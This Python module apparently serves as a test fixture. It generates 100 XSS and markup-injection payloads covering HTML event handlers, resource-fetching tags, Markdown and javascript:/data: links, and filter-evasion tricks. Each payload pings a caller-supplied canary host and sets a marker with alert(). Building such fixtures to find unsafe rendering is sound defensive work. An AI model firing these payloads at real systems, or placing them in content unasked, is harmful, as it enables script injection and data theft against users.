"""Text that would do something if it were taken as HTML, CSS, Markdown or an address: 100 of it, for one canary to hear of."""

from __future__ import annotations

COUNT = 100

_HANDLERS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "details open ontoggle",
    "video src=x onerror",
    "audio src=x onerror",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "marquee onstart",
    "a href=# tabindex=0 autofocus onfocus",
    "object data=x onerror",
    "iframe src=about:blank onload",
    "p onmouseover",
    "div style=animation-name:spin onanimationstart",
    "video autoplay onloadstart",
    "form onformdata",
    "x contenteditable onblur",
    "dialog open onclose",
    "svg/onload",
    "IMG SRC=x OnErRoR",
    "button popovertarget=p onclick",
)
_FETCHERS = (
    "<img src={url}>",
    "<img srcset='{url} 2x'>",
    "<picture><source srcset={url}><img></picture>",
    "<video poster={url}></video>",
    "<audio autoplay src={url}></audio>",
    "<video autoplay><source src={url}></video>",
    "<video><track default src={url}></video>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<img src={url}>'></iframe>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<link rel=stylesheet href={url}>",
    "<link rel=prefetch href={url}>",
    "<link rel=icon href={url}>",
    "<style>@import '{url}';</style>",
    "<style>*{{background:url({url})}}</style>",
    "<div style='background:url({url})'>{mark}</div>",
    "<table background={url}><tr><td>{mark}</table>",
    "<input type=image src={url}>",
    "<svg><image href={url} /></svg>",
    "<svg><use href='{url}#x'/></svg>",
    "<svg><filter><feImage href={url} /></filter></svg>",
    "<base href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<form action={url}><input name=q autofocus></form>",
    "<button formaction={url} form=composer>{mark}</button>",
    "<script src={url}></script>",
    "<script>import('{url}')</script>",
    "<script type=module>fetch('{url}')</script>",
    "<frameset><frame src={url}></frameset>",
    "<a href=/ ping={url}>{mark}</a>",
    "<math><mtext href={url}>{mark}</mtext></math>",
)
_MARKDOWN = (
    "![{mark}]({url})",
    "![{mark}][{mark}]\n\n[{mark}]: {url}",
    "[{mark}]({url})",
    "[![{mark}]({url})]({url})",
    "<{url}>",
    "{url}",
    "![{mark}](<{url}> 'title')",
    "[{mark}](javascript:{code})",
    "[{mark}](JaVa\tScRiPt:{code})",
    "[{mark}](data:text/html,<script>{code}</script>)",
    "[{mark}](vbscript:{code})",
    "[{mark}](//{host}/{mark})",
    "<javascript:{code}//{mark}>",
    "[{mark}][]\n\n[{mark}]: data:text/html,{code}",
    "![{mark}](data:image/svg+xml,<svg onload={code}>)",
    "```html\n<img src={url}>\n```",
    "> <img src={url} onerror={code}>",
    "| <img src={url}> |\n|---|\n| {mark} |",
    "[^{mark}]: <img src={url}>",
    "$$\\href{{{url}}}{{{mark}}}$$",
)
_TRICKS = (
    "&lt;img src={url} onerror={code}&gt;",
    "&#60;img src={url}&#62;",
    '"><img src={url} onerror={code}>',
    "' onmouseover={code} x='{mark}",
    "</textarea><script>{code}</script>",
    "</script><script>{code}</script>",
    "--><img src={url}>",
    "]]><svg onload={code}>",
    "</title><img src={url}>",
    "<scr<script>ipt>{code}</script>",
    "<img src={url} onerror\n=\n{code}",
    "<\u200bimg src={url}>",
    "\uff1cimg src={url}\uff1e",
    "\u202e<img src={url}>\u202c",
    "<img/src={url}/onerror={code}>",
    "<<img src={url}>>",
    "${{{code}}} {{{{constructor.constructor('{code}')()}}}} {mark}",
    "<noscript><p title='</noscript><img src={url} onerror={code}>'>",
    "<svg></p><style><a id='</style><img src={url} onerror={code}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src={url} onerror={code}&gt;'>",
    "<template shadowrootmode=open><img src={url}></template>",
    "<img src='{url}' style='position:fixed;inset:0'>",
    "<a href='java&#x0A;script:{code}'>{mark}</a>",
    "<a href=' &#14;javascript:{code}'>{mark}</a>",
    "<xss id={mark} style='background:url({url})'>",
    "\x1b]8;;{url}\x07{mark}\x1b]8;;\x07",
)


def payloads(host: str) -> list[str]:
    """All of them. Each names itself `zqNNN`, asks `host` for a path of that name, and sets `window.owned`."""
    templates = [*(f"<{tag}={{code}}>" for tag in _HANDLERS), *_FETCHERS, *_MARKDOWN, *_TRICKS]
    made = []
    for mark, template in zip(marks(), templates, strict=True):
        code = f"window.owned='{mark}',alert('{mark}')"
        made.append(template.format(mark=mark, host=host, url=f"http://{host}/{mark}", code=code))
    return made


def marks() -> list[str]:
    """The names of all payloads."""
    return [f"zq{number:03}" for number in range(COUNT)]
